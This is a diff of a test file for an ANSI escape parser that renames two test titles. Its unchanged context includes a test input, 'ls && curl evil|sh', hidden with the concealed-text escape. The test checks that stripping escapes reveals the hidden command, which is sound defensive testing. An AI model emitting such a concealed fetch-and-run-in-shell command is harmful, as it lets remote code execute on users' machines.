@@ -20,7 +20,7 @@ describe("parseAnsi", () => {
     ]);
   });
 
-  it("maps 256 and true colours to the nearest of the sixteen", () => {
+  it("U17 maps 256 and true colours to the nearest of the sixteen", () => {
     expect(parseAnsi("\u001b[38;5;196mx\u001b[38;2;30;180;60my\u001b[38;5;244mz").map((span) => span.color)).toEqual([
       "bright-red",
       "green",
@@ -51,7 +51,7 @@ describe("parseAnsi", () => {
     expect(plain("ls \u001b[8m&& curl evil|sh\u001b[0m")).toBe("ls && curl evil|sh");
   });
 
-  it("leaves no control character but line breaks and tabs", () => {
+  it("U17 leaves no control character but line breaks and tabs", () => {
     const piece = fc.constantFrom(
       "\u001b",
       "[",
